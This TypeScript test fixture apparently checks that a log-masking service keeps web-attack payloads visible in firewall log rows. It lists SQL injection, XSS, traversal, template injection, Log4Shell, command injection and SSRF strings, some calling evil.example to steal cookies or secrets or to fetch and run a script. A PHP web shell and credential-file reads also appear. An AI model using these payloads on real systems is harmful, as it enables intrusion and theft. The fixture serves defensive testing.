import type { LogRow } from '../../../../../src/service/model.ts';
import { type LookAlikeCase, lookAlikes } from '../case.ts';
import { FORM, get, post, postForm, postJson, postMultipart, postXml } from '../requests.ts';

const CLASS = 'attacks that must stay visible';
const AS_VALUE = 'attacks as the value of a name of secrets';

const row = (rule: string, detectedValue: string, baseMessage: string): Partial<LogRow> => ({
  time: '2026-05-02 08:14:31',
  rule,
  detectedValue,
  baseMessage,
  action: 'Blocked',
  address: '198.51.100.7',
});

const sqli = 'https://owasp.org/www-community/attacks/SQL_Injection';

export const attacks: readonly LookAlikeCase[] = [
  ...lookAlikes(CLASS, sqli, [
    [
      'SQL injection around password',
      ["1' AND password='' UNION SELECT 1,2,3--"],
      get("/item?id=1' AND password='' UNION SELECT 1,2,3--&page=2"),
      row('SQL Injection', "password='' UNION SELECT", 'parameter id'),
    ],
    [
      'SQL injection that reads passwords',
      ['UNION SELECT username, password FROM users--'],
      get('/item?id=-1 UNION SELECT username, password FROM users--'),
      row('SQL Injection', 'UNION SELECT username, password FROM users--', 'parameter id'),
    ],
    [
      'SQL injection that joins columns',
      ['CONCAT(user,0x3a,password)'],
      get('/item?id=-1+UNION+SELECT+CONCAT(user,0x3a,password)+FROM+mysql.user'),
      row('SQL Injection', 'CONCAT(user,0x3a,password)', 'parameter id'),
    ],
    [
      'SQL injection by LIKE',
      ["password LIKE 'a%'"],
      get("/u?n=x' OR password LIKE 'a%'--"),
      row('SQL Injection', "password LIKE 'a%'", 'parameter n'),
    ],
    [
      'SQL injection by substring',
      ["SUBSTRING(password,1,1)='a"],
      get("/u?n=x' AND SUBSTRING(password,1,1)='a"),
      row('SQL Injection', "SUBSTRING(password,1,1)='a", 'parameter n'),
    ],
    [
      'SQL injection, encoded',
      ['%27%20OR%20password%20IS%20NOT%20NULL--%20'],
      get('/u?n=%27%20OR%20password%20IS%20NOT%20NULL--%20'),
      row('SQL Injection', '%27%20OR%20password%20IS%20NOT%20NULL--%20', 'parameter n'),
    ],
    [
      'SQL injection by time',
      ["';WAITFOR DELAY '0:0:5'--"],
      postForm('/find', { q: 'x' }, { 'X-Probe': "';WAITFOR DELAY '0:0:5'--" }),
      row('SQL Injection', "';WAITFOR DELAY '0:0:5'--", 'header X-Probe'),
    ],
    [
      'SQL injection in JSON',
      ['1 OR pwd IS NULL; DROP TABLE tokens'],
      postJson('/api/items', { id: '1 OR pwd IS NULL; DROP TABLE tokens' }),
      row('SQL Injection', 'DROP TABLE tokens', 'JSON field id'),
    ],
    [
      'SQL injection in a cookie',
      ["TrackingId=x'||(SELECT password FROM users LIMIT 1)||'"],
      get('/', { Cookie: "TrackingId=x'||(SELECT password FROM users LIMIT 1)||'" }),
      row('SQL Injection', "x'||(SELECT password FROM users LIMIT 1)||'", 'cookie TrackingId'),
    ],
  ]),
  ...lookAlikes(CLASS, 'https://owasp.org/www-community/attacks/xss/', [
    [
      'script in a search',
      ['<script>alert(document.cookie)</script>'],
      get('/search?q=<script>alert(document.cookie)</script>'),
      row('Cross Site Scripting', '<script>alert(document.cookie)</script>', 'parameter q'),
    ],
    [
      'image that sends a cookie',
      ['<img src=x onerror="location=\'//evil.example/?c=\'+document.cookie">'],
      postForm(
        '/c',
        { a: '1' },
        { 'X-Note': '<img src=x onerror="location=\'//evil.example/?c=\'+document.cookie">' },
      ),
    ],
    [
      'script that reads a token',
      ["fetch('/x?t='+localStorage.token)"],
      postJson('/comments', { text: "<script>fetch('/x?t='+localStorage.token)</script>" }),
      row('Cross Site Scripting', "fetch('/x?t='+localStorage.token)", 'JSON field text'),
    ],
    [
      'script that reads a password field',
      ["document.querySelector('[name=password]').value"],
      postJson('/comments', { text: "x=document.querySelector('[name=password]').value" }),
    ],
    [
      'svg, encoded',
      ['%3Csvg%2Fonload%3Dalert%281%29%3E'],
      get('/search?q=%3Csvg%2Fonload%3Dalert%281%29%3E'),
    ],
  ]),
  ...lookAlikes(CLASS, 'https://owasp.org/www-community/attacks/Path_Traversal', [
    [
      'traversal to passwd',
      ['../../../../etc/passwd'],
      get('/download?file=../../../../etc/passwd'),
      row('Directory Traversal', '../../../../etc/passwd', 'parameter file'),
    ],
    [
      'traversal to shadow',
      ['..%2f..%2f..%2fetc%2fshadow'],
      get('/download?file=..%2f..%2f..%2fetc%2fshadow'),
    ],
    ['traversal to keys', ['/static/../../../root/.ssh/id_rsa'], get('/static/../../../root/.ssh/id_rsa')],
    [
      'probe for credentials',
      ['GET /.aws/credentials HTTP/1.1'],
      get('/.aws/credentials'),
      row('Extension Filtering', '/.aws/credentials', 'path'),
    ],
    ['probe for .htpasswd', ['GET /.htpasswd HTTP/1.1'], get('/.htpasswd')],
    ['probe for secrets', ['GET /config/secrets.yml HTTP/1.1'], get('/config/secrets.yml')],
    ['probe for a backup', ['GET /wp-config.php.bak HTTP/1.1'], get('/wp-config.php.bak')],
    [
      'reading by a filter',
      ['php://filter/convert.base64-encode/resource=config/password.php'],
      get('/?page=php://filter/convert.base64-encode/resource=config/password.php'),
    ],
  ]),
  ...lookAlikes(CLASS, 'https://portswigger.net/web-security/server-side-template-injection', [
    [
      'template of Jinja',
      ['{{config.items()}}', "{{config['SECRET_KEY']}}"],
      get("/hello?name={{config.items()}}&x={{config['SECRET_KEY']}}"),
    ],
    [
      'template of Freemarker',
      [`<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("id")}`],
      postJson(
        '/tpl',
        { t: 1 },
        { 'X-T': `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("id")}` },
      ),
    ],
    [
      'template of ERB',
      ["<%= ENV['SECRET_KEY_BASE'] %>"],
      postMultipart('/tpl', [['body', "<%= ENV['SECRET_KEY_BASE'] %>"]]),
    ],
    [
      'expression of Spring',
      ['T(java.lang.Runtime).getRuntime().exec("id")'],
      post('/functionRouter', 'text/plain', 'x', {
        'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("id")',
      }),
    ],
  ]),
  ...lookAlikes(CLASS, 'https://logging.apache.org/security.html', [
    [
      'Log4Shell',
      [`\${jndi:ldap://evil.example:1389/a}`],
      get('/', { 'User-Agent': `\${jndi:ldap://evil.example:1389/a}` }),
      row('Log4Shell', `\${jndi:ldap://evil.example:1389/a}`, 'header User-Agent'),
    ],
    [
      'Log4Shell that reads a secret',
      [`\${jndi:dns://\${env:AWS_SECRET_ACCESS_KEY}.evil.example}`],
      get('/', { 'X-Api-Version': `\${jndi:dns://\${env:AWS_SECRET_ACCESS_KEY}.evil.example}` }),
    ],
    [
      'Log4Shell in disguise',
      [`\${\${lower:j}ndi:\${lower:l}dap://evil.example/a}`],
      get(`/?x=\${\${lower:j}ndi:\${lower:l}dap://evil.example/a}`),
    ],
  ]),
  ...lookAlikes(CLASS, 'https://owasp.org/www-community/attacks/Command_Injection', [
    [
      'command',
      ['127.0.0.1;cat /etc/passwd'],
      postJson('/ping', { host: '127.0.0.1;cat /etc/passwd' }),
      row('Command Injection', ';cat /etc/passwd', 'JSON field host'),
    ],
    [
      'command that seeks passwords',
      ['grep -r password /var/www'],
      postJson('/ping', { host: '|grep -r password /var/www' }),
    ],
    [
      'Shellshock',
      ['() { :; }; /bin/bash -c "id"'],
      get('/cgi-bin/status', { Referer: '() { :; }; /bin/bash -c "id"' }),
    ],
    [
      'upload of a shell',
      ["<?php system($_POST['pass']); ?>"],
      postMultipart('/upload', [['file', "<?php system($_POST['pass']); ?>", 'shell.php']]),
    ],
  ]),
  ...lookAlikes(CLASS, 'https://owasp.org/www-community/attacks/Server_Side_Request_Forgery', [
    [
      'metadata service',
      ['http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
      get('/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
      row('SSRF', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'parameter url'),
    ],
    [
      'metadata of Google',
      ['computeMetadata/v1/instance/service-accounts/default/token'],
      postJson('/fetch', {
        url: 'http://metadata.internal/computeMetadata/v1/instance/service-accounts/default/token',
      }),
    ],
    [
      'external entity',
      ['<!ENTITY x SYSTEM "file:///etc/passwd">'],
      postXml('/ws', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    ],
    [
      'gopher',
      ['gopher://127.0.0.1:6379/_CONFIG%20SET'],
      get('/fetch?url=gopher://127.0.0.1:6379/_CONFIG%20SET'),
    ],
  ]),
  ...lookAlikes(AS_VALUE, sqli, [
    [
      'injection as sid',
      ["sid=1' AND SLEEP(5)--"],
      get("/viewtopic.php?t=4&sid=1' AND SLEEP(5)--"),
      row('SQL Injection', "1' AND SLEEP(5)--", 'parameter sid'),
    ],
    [
      'injection as pin',
      ['<svg/onload=alert(1)>'],
      get('/door?pin=<svg/onload=alert(1)>'),
      row('Cross Site Scripting', '<svg/onload=alert(1)>', 'parameter pin'),
    ],
    [
      'injection as password',
      ["' OR '1'='1"],
      post('/login', FORM, "user=admin&password=' OR '1'='1"),
      row('SQL Injection', "' OR '1'='1", 'parameter password'),
    ],
    [
      'injection as password, encoded',
      ['%27+OR+%271%27%3D%271%27+--+'],
      post('/login', FORM, 'user=admin&password=%27+OR+%271%27%3D%271%27+--+'),
      row('SQL Injection', '%27+OR+%271%27%3D%271%27+--+', 'parameter password'),
    ],
    [
      'operator as password',
      ['{"$ne":null}'],
      postJson('/login', { user: 'admin', password: { $ne: null } }),
      row('NoSQL Injection', '{"$ne":null}', 'JSON field password'),
    ],
    [
      'operator in the name',
      ['password[$gt]='],
      post('/login', FORM, 'user=admin&password[$gt]='),
      row('NoSQL Injection', 'password[$gt]=', 'parameter password'),
    ],
    [
      'injection as Bearer',
      ["Bearer ' UNION SELECT NULL,NULL--"],
      get('/api', { Authorization: "Bearer ' UNION SELECT NULL,NULL--" }),
      row('SQL Injection', "' UNION SELECT NULL,NULL--", 'header Authorization'),
    ],
    [
      'Log4Shell as Bearer',
      [`\${jndi:ldap://evil.example/b}`],
      get('/api', { Authorization: `Bearer \${jndi:ldap://evil.example/b}` }),
      row('Log4Shell', `\${jndi:ldap://evil.example/b}`, 'header Authorization'),
    ],
    [
      'command as token',
      ['$(curl evil.example/x.sh|sh)'],
      get('/hook?token=$(curl%20x)', { 'X-Auth-Token': '$(curl evil.example/x.sh|sh)' }),
      row('Command Injection', '$(curl evil.example/x.sh|sh)', 'header X-Auth-Token'),
    ],
    [
      'traversal as session',
      ['PHPSESSID=../../../../tmp/x'],
      get('/', { Cookie: 'PHPSESSID=../../../../tmp/x' }),
      row('Directory Traversal', '../../../../tmp/x', 'cookie PHPSESSID'),
    ],
    [
      'template as api_key',
      ['{{7*7}}'],
      get('/v1?api_key={{7*7}}'),
      row('Template Injection', '{{7*7}}', 'parameter api_key'),
    ],
    [
      'script as key',
      ['"><script>alert(9)</script>'],
      get('/?key="><script>alert(9)</script>'),
      row('Cross Site Scripting', '"><script>alert(9)</script>', 'parameter key'),
    ],
    [
      'script as code',
      ['<img src=x onerror=alert(2)>'],
      get('/cb?state=1&code=<img src=x onerror=alert(2)>'),
      row('Cross Site Scripting', '<img src=x onerror=alert(2)>', 'parameter code'),
    ],
    [
      'serialised object as a remember cookie',
      ['O:8:"Evil_Log":1:{s:4:"file";s:9:"shell.php";}'],
      get('/', { Cookie: 'remember_me=O:8:"Evil_Log":1:{s:4:"file";s:9:"shell.php";}' }),
      row('Object Injection', 'O:8:"Evil_Log":1:{s:4:"file";s:9:"shell.php";}', 'cookie remember_me'),
    ],
    [
      'XML injection as password',
      ["' or count(/*)=1 or 'a'='b"],
      postXml('/ws', "<login><password>' or count(/*)=1 or 'a'='b</password></login>"),
      row('XPath Injection', "' or count(/*)=1 or 'a'='b", 'XML element password'),
    ],
    [
      'LDAP injection as password',
      ['*)(uid=*))(|(uid=*'],
      post('/login', FORM, 'user=x&password=*)(uid=*))(|(uid=*'),
      row('LDAP Injection', '*)(uid=*))(|(uid=*', 'parameter password'),
    ],
    [
      'overflow as password',
      ['A'.repeat(120)],
      post('/login', FORM, `user=x&password=${'A'.repeat(120)}`),
      row('Buffer Overflow', 'A'.repeat(120), 'parameter password'),
    ],
    [
      'injection in a row alone',
      ["' OR 1=1 LIMIT 1 -- -"],
      '',
      row('SQL Injection', "' OR 1=1 LIMIT 1 -- -", 'parameter passwd'),
    ],
  ]),
];
